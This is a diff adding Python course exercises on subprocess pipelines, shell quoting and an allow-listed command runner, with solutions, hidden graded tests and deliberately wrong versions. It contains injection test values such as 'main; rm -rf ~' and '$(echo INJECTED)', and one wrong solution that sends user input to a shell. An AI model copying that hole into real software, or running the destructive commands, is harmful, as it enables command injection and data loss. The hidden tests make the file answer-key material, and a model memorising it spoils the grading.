+        return f"exit {code} (shell code for {signal.Signals(code - 128).name})"
+    return f"exit {code}"
+
+# %% [markdown] course={"kind": "exercise", "id": "pipeline", "item": "x-chain-multiple-commands-with-pipes"}
+# ### A pipeline, as the shell builds it
+#
+# Write `pipeline(stages)` that runs a list of commands connected like `a | b | c` in a shell:
+# each stage's stdout is the next stage's stdin, **all stages run at the same time**, the first stage
+# reads nothing (`subprocess.DEVNULL`), and the last stage's stdout is returned as `str`.
+#
+# - Every stage is waited for (no zombies), whatever happens.
+# - Like `set -o pipefail`: if any stage exits non-zero, raise `subprocess.CalledProcessError`
+#   for the **first** such stage (its return code, and its argument list as `cmd`).
+# - No stage at all: `ValueError`.
+# - It must work when a stage stops reading early (`producer | head -n 1`) and when megabytes flow through.
+#
+# ```python
+# pipeline([py("print('b'); print('a')"), py(SORT_LINES)])   # 'a\nb\n'
+# ```
+
+# %% [markdown] course={"kind": "hint"}
+# Start each stage with `Popen(args, stdin=<previous stage's stdout>, stdout=subprocess.PIPE)`.
+# Read the last stage with `communicate()`, then `wait()` for every stage.
+
+# %% [markdown] course={"kind": "hint"}
+# After handing `previous.stdout` to the next stage, **close your own copy** of it in the parent.
+# If you keep it open, a producer whose reader has quit never learns that (no broken pipe), and it
+# waits for ever on a full pipe.
+
+# %% course={"kind": "solution"}
+def pipeline(stages: list[list[str]]) -> str:
+    ### BEGIN SOLUTION
+    if not stages:
+        raise ValueError("a pipeline needs at least one stage")
+    procs: list[subprocess.Popen] = []
+    for args in stages:
+        upstream = procs[-1].stdout if procs else subprocess.DEVNULL
+        procs.append(subprocess.Popen(args, stdin=upstream, stdout=subprocess.PIPE, text=True))
+        if len(procs) > 1:
+            procs[-2].stdout.close()  # the new stage holds the read end now, not us
+    output, _ = procs[-1].communicate()
+    codes = [proc.wait() for proc in procs]
+    for args, code in zip(stages, codes):
+        if code != 0:
+            raise subprocess.CalledProcessError(code, args)
+    return output
+    ### END SOLUTION
+
+# %% course={"kind": "test", "points": 1}
+with ProcessWatch() as watch:
+    got = watch.call(pipeline, [py("print('pear'); print('apple'); print('fig')"), py(SORT_LINES)])
+    assert got == "apple\nfig\npear\n", f"producer | sort gave {got!r}"
+    assert len(watch.started) == 2 and watch.unreaped() == [], "one process per stage, every one waited for"
+
+# %% course={"kind": "test", "points": 1}
+with ProcessWatch() as watch:
+    three = [py("print('b'); print('a'); print('c')"), py(SORT_LINES), py(UPPER)]
+    got = watch.call(pipeline, three)
+    assert got == "A\nB\nC\n", f"three stages: {got!r}"
+    assert watch.call(pipeline, [py("print('solo')")]) == "solo\n", "one stage works like run()"
+    assert watch.call(pipeline, [py(COUNT_LINES)]) == "0\n", "the first stage reads nothing (DEVNULL)"
+    try:
+        pipeline([])
+    except ValueError:
+        pass
+    else:
+        raise AssertionError("an empty pipeline must raise ValueError")
+    assert watch.unreaped() == []
+
+# %% course={"kind": "test", "points": 2}
+with ProcessWatch() as watch:
+    fail_4 = py("import sys; print('partial'); sys.exit(4)")
+    for stages in ([fail_4, py(UPPER)], [py("print('x')"), fail_4, py(COUNT_LINES)]):
+        try:
+            watch.call(pipeline, stages)
+        except subprocess.CalledProcessError as err:
+            assert err.returncode == 4 and err.cmd == fail_4, f"name the failing stage: {err.cmd!r}, code {err.returncode}"
+        else:
+            raise AssertionError("a stage exiting with 4 must raise CalledProcessError, even if the last stage is fine")
+    assert watch.unreaped() == [], "every stage is waited for, also when one failed"
+### BEGIN HIDDEN TESTS
+with ProcessWatch() as watch:
+    fail_5 = py("import sys; sys.exit(5)")
+    try:
+        watch.call(pipeline, [fail_4, fail_5])
+    except subprocess.CalledProcessError as err:
+        assert err.returncode == 4 and err.cmd == fail_4, "the first failing stage is reported"
+    else:
+        raise AssertionError("failing stages must raise")
+### END HIDDEN TESTS
+
+# %% course={"kind": "test", "points": 2}
+with ProcessWatch() as watch:
+    got = watch.call(pipeline, [py(PRODUCER), py(FIRST_LINE)])
+    assert got == "y" * 1023 + "\n", "producer | head -n 1: the first line"
+    assert watch.unreaped() == [], "the producer stops once its reader has gone"
+### BEGIN HIDDEN TESTS
+with ProcessWatch() as watch:
+    big = py("import sys; sys.stdout.write('ab\\n' * 1_000_000)")
+    got = watch.call(pipeline, [big, py(UPPER), py(UPPER)])
+    assert len(got) == 3_000_000 and got[:6] == "AB\nAB\n", "3 MB through three stages without a deadlock"
+### END HIDDEN TESTS
+
+# %% course={"kind": "wrong", "id": "keeps-pipe-open"}
+def pipeline(stages):
+    if not stages:
+        raise ValueError("no stages")
+    procs = []
+    for args in stages:
+        upstream = procs[-1].stdout if procs else subprocess.DEVNULL
+        procs.append(subprocess.Popen(args, stdin=upstream, stdout=subprocess.PIPE, text=True))
+    output, _ = procs[-1].communicate()  # the parent still holds every earlier read end
+    for args, proc in zip(stages, procs):
+        if proc.wait() != 0:
+            raise subprocess.CalledProcessError(proc.returncode, args)
+    return output
+
+# %% course={"kind": "wrong", "id": "last-stage-only"}
+def pipeline(stages):
+    if not stages:
+        raise ValueError("no stages")
+    procs = []
+    for args in stages:
+        upstream = procs[-1].stdout if procs else subprocess.DEVNULL
+        procs.append(subprocess.Popen(args, stdin=upstream, stdout=subprocess.PIPE, text=True))
+        if len(procs) > 1:
+            procs[-2].stdout.close()
+    output, _ = procs[-1].communicate()
+    if procs[-1].returncode != 0:  # like a shell without pipefail; and the others are never reaped
+        raise subprocess.CalledProcessError(procs[-1].returncode, stages[-1])
+    return output
+
+# %% course={"kind": "wrong", "id": "one-after-another"}
+def pipeline(stages):
+    if not stages:
+        raise ValueError("no stages")
+    data = ""
+    for i, args in enumerate(stages):  # each stage must finish before the next starts
+        done = subprocess.run(args, input=data if i else None, stdin=None if i else subprocess.DEVNULL,
+                              capture_output=True, text=True)
+        if done.returncode != 0:
+            raise subprocess.CalledProcessError(done.returncode, args)
+        data = done.stdout
+    return data
+
+# %% course={"kind": "wrong", "id": "wait-then-read"}
+def pipeline(stages):
+    if not stages:
+        raise ValueError("no stages")
+    procs = []
+    for args in stages:
+        upstream = procs[-1].stdout if procs else subprocess.DEVNULL
+        procs.append(subprocess.Popen(args, stdin=upstream, stdout=subprocess.PIPE, text=True))
+        if len(procs) > 1:
+            procs[-2].stdout.close()
+    for args, proc in zip(stages, procs):  # waits before reading: a full pipe blocks the last stage
+        if proc.wait() != 0:
+            raise subprocess.CalledProcessError(proc.returncode, args)
+    return procs[-1].stdout.read()
+
+# %% [markdown] course={"kind": "exercise", "id": "quote-command", "item": "x-create-a-safe-command-executor-that"}
+# ### Fill a shell command template safely
+#
+# Sometimes a shell is unavoidable: a command for `ssh host '...'`, a `bash -c` step in a CI file, a
+# cron line. Write `fill_command(template, **values)` that fills the `{name}` placeholders of a
+# trusted `template` (with `str.format`) after quoting every value with `shlex.quote`, so that each
+# value reaches the program as **exactly one argument**, unchanged, whatever it contains (spaces,
+# `;`, `$(...)`, quotes, newlines, nothing at all).
+#
+# Values must be `str` or `int` (an `int` is written in decimal). Anything else, **`bool` and `None`
+# included**, raises `TypeError`: a `None` or `True` inside a command is a bug upstream. A placeholder
+# with no value raises `KeyError` (what `str.format` does).
+#
+# ```python
+# fill_command("git checkout {branch}", branch="main; rm -rf ~")
+# # "git checkout 'main; rm -rf ~'"
+# ```
+
+# %% [markdown] course={"kind": "hint"}
+# Build a new dict of quoted values, then `template.format(**quoted)`. `shlex.quote` accepts only `str`.
+
+# %% [markdown] course={"kind": "hint"}
+# `isinstance(True, int)` is `True`: test for `bool` before you accept an `int`, or compare `type(value)`.
+
+# %% course={"kind": "solution"}
+def fill_command(template: str, **values: str | int) -> str:
+    ### BEGIN SOLUTION
+    quoted = {}
+    for name, value in values.items():
+        if type(value) not in (str, int):
+            raise TypeError(f"{name} must be str or int, not {type(value).__name__}")
+        quoted[name] = shlex.quote(str(value))
+    return template.format(**quoted)
+    ### END SOLUTION
+
+# %% course={"kind": "test", "points": 1}
+got = fill_command("git checkout {branch}", branch="main; rm -rf ~")
+assert got == "git checkout 'main; rm -rf ~'", f"quote the value: got {got!r}"
+assert fill_command("ls {path}", path="plain") == "ls plain", "shlex.quote leaves a harmless word as it is"
+
+# %% course={"kind": "test", "points": 2}
+def argv_via_shell(**values):
+    """Run the filled command through a real sh; return what the program received as arguments."""
+    template = shlex.quote(PY) + " -c 'import sys; print(sys.argv[1:])' {a} {b}"
+    done = subprocess.run(["sh", "-c", fill_command(template, **values)], capture_output=True, text=True)
+    return done.stdout
+
+
+for a in ["two words", "x; echo INJECTED", "$(echo INJECTED)", "`echo INJECTED`", "it's", "", "a\nb", "*", "ünï €"]:
+    got = argv_via_shell(a=a, b="end")
+    assert got == f"{[a, 'end']!r}\n", f"{a!r} must arrive as one unchanged argument; the program got {got!r}"
+
+# %% course={"kind": "test", "points": 1}
+assert argv_via_shell(a=8080, b=-1) == "['8080', '-1']\n", "ints are written in decimal"
+assert fill_command("echo {x} {x}", x="a b") == "echo 'a b' 'a b'", "every occurrence is filled"
+assert fill_command("echo {{literal}} {x}", x=0) == "echo {literal} 0", "the template is a str.format template"
+for bad in (None, True, 1.5, b"bytes", ["list"]):
+    try:
+        fill_command("run {x}", x=bad)
+    except TypeError:
+        pass
+    else:
+        raise AssertionError(f"a value of {bad!r} must raise TypeError")
+try:
+    fill_command("run {x} {y}", x="1")
+except KeyError:
+    pass
+else:
+    raise AssertionError("a placeholder without a value raises KeyError")
+
+# %% course={"kind": "wrong", "id": "hand-quoted"}
+def fill_command(template, **values):
+    for name, value in values.items():
+        if type(value) not in (str, int):
+            raise TypeError(name)
+    return template.format(**{name: f"'{value}'" for name, value in values.items()})  # breaks on it's
+
+# %% course={"kind": "wrong", "id": "double-quotes"}
+def fill_command(template, **values):
+    for name, value in values.items():
+        if type(value) not in (str, int):
+            raise TypeError(name)
+    return template.format(**{name: f'"{value}"' for name, value in values.items()})  # $() still runs
+
+# %% course={"kind": "wrong", "id": "bool-is-int"}
+def fill_command(template, **values):
+    quoted = {}
+    for name, value in values.items():
+        if not isinstance(value, (str, int)):  # True and False pass as ints
+            raise TypeError(name)
+        quoted[name] = shlex.quote(str(value))
+    return template.format(**quoted)
+
+# %% [markdown] course={"kind": "exercise", "id": "allow-listed-runner", "item": "x-create-a-safe-command-executor-that"}
+# ### A command executor with an allow-list
+#
+# A chat-ops bot receives command lines like `restart web-1` from users. Write
+# `run_allowed(command_line, allowed)`:
+#
+# - split `command_line` into words **as a POSIX shell would** (quotes group words), but run **no shell**;
+# - the first word must be a key of `allowed` (exactly, not a prefix); otherwise raise
+#   `PermissionError` and run nothing;
+# - run `allowed[word] + <the other words>` (the dict maps a command name to the argument list that
+#   starts it) and return its `Captured(returncode, stdout, stderr)` (the `NamedTuple` from the first
+#   exercise), with text output;
+# - an empty or blank command line raises `ValueError`; so does a line with an unclosed quote
+#   (`shlex` already raises it); `allowed` is not changed.
+#
+# ```python
+# allowed = {"greet": py("import sys; print('hello', *sys.argv[1:])")}
+# run_allowed("greet 'Ada Lovelace'", allowed)    # Captured(0, 'hello Ada Lovelace\n', '')
+# run_allowed("rm -rf /", allowed)                # PermissionError: 'rm' is not allowed
+# ```
+
+# %% [markdown] course={"kind": "hint"}
+# `shlex.split` does the splitting. Compare the first word with `in allowed`, not with `startswith`.
+
+# %% [markdown] course={"kind": "hint"}
+# Build a new list, `[*allowed[name], *rest]`: `allowed[name] + rest` is fine too, but never `.extend()` the
+# list stored in `allowed`.
+
+# %% course={"kind": "solution"}
+def run_allowed(command_line: str, allowed: dict[str, list[str]]) -> Captured:
+    ### BEGIN SOLUTION
+    words = shlex.split(command_line)
+    if not words:
+        raise ValueError("empty command line")
+    name, *rest = words
+    if name not in allowed:
+        raise PermissionError(f"{name!r} is not allowed")
+    done = subprocess.run([*allowed[name], *rest], capture_output=True, text=True)
+    return Captured(done.returncode, done.stdout, done.stderr)
+    ### END SOLUTION
+
+# %% course={"kind": "test", "points": 1}
+got = run_allowed("greet 'Ada Lovelace'", chatops_commands())
+assert got == Captured(0, "hello Ada Lovelace\n", ""), f"got {got!r}"
+assert run_allowed("fail", chatops_commands()) == Captured(7, "", "broken\n"), "a failure is returned, with stderr"
+
+# %% course={"kind": "test", "points": 2}
+with ProcessWatch() as watch:
+    for line in ("rm -rf /", "greetx", "gree", "'greet x'", "GREET"):
+        try:
+            run_allowed(line, chatops_commands())
+        except PermissionError:
+            pass
+        else:
+            raise AssertionError(f"{line!r} is not on the allow-list: raise PermissionError")
+    assert watch.started == [], "nothing may run for a refused command"
+
+# %% course={"kind": "test", "points": 2}
+got = run_allowed("args x; echo INJECTED", chatops_commands())
+assert got.stdout == "['x;', 'echo', 'INJECTED']\n", f"no shell: ';' is just text, got {got.stdout!r}"
+got = run_allowed("args \"$(echo INJECTED)\" 'two  spaces' ''", chatops_commands())
+assert got.stdout == "['$(echo INJECTED)', 'two  spaces', '']\n", f"quotes group words, nothing expands: {got.stdout!r}"
+### BEGIN HIDDEN TESTS
+got = run_allowed("  args   a\tb  ", chatops_commands())
+assert got.stdout == "['a', 'b']\n", f"whitespace separates words: {got.stdout!r}"
+got = run_allowed("args ünï 'a|b' > out.txt", chatops_commands())
+assert got.stdout == "['ünï', 'a|b', '>', 'out.txt']\n", f"no redirection either: {got.stdout!r}"
+### END HIDDEN TESTS
+
+# %% course={"kind": "test", "points": 1}
+commands = chatops_commands()
+before = {k: list(v) for k, v in commands.items()}
+run_allowed("args one two", commands)
+run_allowed("args three", commands)
+assert commands == before, "allowed must not change"
+for line in ("", "   ", "greet 'unclosed"):
+    try:
+        run_allowed(line, commands)
+    except ValueError:
+        pass
+    else:
+        raise AssertionError(f"{line!r} must raise ValueError")
+
+# %% course={"kind": "wrong", "id": "str-split"}
+def run_allowed(command_line, allowed):
+    words = command_line.split()  # quotes are not honoured
+    if not words:
+        raise ValueError("empty")
+    if words[0] not in allowed:
+        raise PermissionError(words[0])
+    done = subprocess.run(allowed[words[0]] + words[1:], capture_output=True, text=True)
+    return Captured(done.returncode, done.stdout, done.stderr)
+
+# %% course={"kind": "wrong", "id": "prefix-check"}
+def run_allowed(command_line, allowed):
+    words = shlex.split(command_line)
+    if not words:
+        raise ValueError("empty")
+    name = next((n for n in allowed if command_line.strip().startswith(n)), None)
+    if name is None:
+        raise PermissionError(words[0])
+    done = subprocess.run(allowed[name] + words[1:], capture_output=True, text=True)
+    return Captured(done.returncode, done.stdout, done.stderr)
+
+# %% course={"kind": "wrong", "id": "checked-then-shell"}
+def run_allowed(command_line, allowed):
+    words = shlex.split(command_line)
+    if not words:
+        raise ValueError("empty")
+    if words[0] not in allowed:
+        raise PermissionError(words[0])
+    rest = command_line.strip()[len(words[0]):]  # the rest goes to a shell: injection
+    done = subprocess.run(shlex.join(allowed[words[0]]) + rest, shell=True, capture_output=True, text=True)
+    return Captured(done.returncode, done.stdout, done.stderr)
+
+# %% course={"kind": "wrong", "id": "extends-allowed"}
+def run_allowed(command_line, allowed):
+    words = shlex.split(command_line)
+    if not words:
+        raise ValueError("empty")
+    if words[0] not in allowed:
+        raise PermissionError(words[0])
+    args = allowed[words[0]]
+    args.extend(words[1:])  # changes the allow-list itself
+    done = subprocess.run(args, capture_output=True, text=True)
+    return Captured(done.returncode, done.stdout, done.stderr)
